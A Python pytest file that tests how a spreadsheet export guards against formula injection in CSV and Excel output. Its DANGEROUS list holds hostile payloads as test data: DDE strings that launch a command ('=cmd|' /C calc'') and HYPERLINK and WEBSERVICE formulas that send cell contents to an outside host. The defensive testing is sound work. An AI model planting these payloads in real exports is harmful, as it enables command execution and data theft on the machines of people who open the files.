"""What a spreadsheet would calculate, or worse, leaves as text."""

import csv
from io import BytesIO, StringIO

import openpyxl
import pytest

from core.exports.csv import csv_lines
from core.exports.formulas import guarded, unguarded
from core.exports.table import Table
from core.exports.xlsx import xlsx_pieces

DANGEROUS = [
    "=1+1",
    "+1 555 0100",
    "-3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " \u200b =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    '=WEBSERVICE("http://example.org/"&A1)',
    "=IMPORTXML(CONCAT(A1))",
    '-2+3+cmd|" /C calc"!A0',
    "=1,=2",
    '"=1+1"=1',
]
HARMLESS = ["a=1", "Rivera + Sons", "3 - 4", "'quoted'", "luis@example.org", "", "  two", "1,000"]


@pytest.mark.parametrize("text", DANGEROUS[:-1])
def test_a_formula_gets_a_quote_before_it(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", [*HARMLESS, DANGEROUS[-1]])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS])
def test_the_quote_comes_off_again(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_no_cell_of_a_csv_file_begins_with_a_formula() -> None:
    table = Table("x", ["=evil header", "b"], lambda: [(it, it) for it in DANGEROUS])
    text = "".join(csv_lines(table)).removeprefix("\ufeff")
    read = list(csv.reader(StringIO(text, newline="")))
    assert read[0][0] == "'=evil header"
    assert [unguarded(row[1]) for row in read[1:]] == DANGEROUS
    assert all(row[0][0] in "'\"" for row in read[1:])


def test_every_text_of_an_excel_sheet_is_text() -> None:
    shown = [it for it in DANGEROUS if "\r" not in it]  # XML has line feeds alone
    table = Table("x", ["=evil header"], lambda: [(it,) for it in [*shown, "https://example.org"]])
    book = openpyxl.load_workbook(BytesIO(b"".join(xlsx_pieces(table))))
    cells = [row[0] for row in book.active.iter_rows()]
    assert {it.data_type for it in cells} == {"s"} or {it.data_type for it in cells} == {
        "inlineStr"
    }
    assert [it.value for it in cells] == ["=evil header", *shown, "https://example.org"]
    assert all(it.hyperlink is None for it in cells)
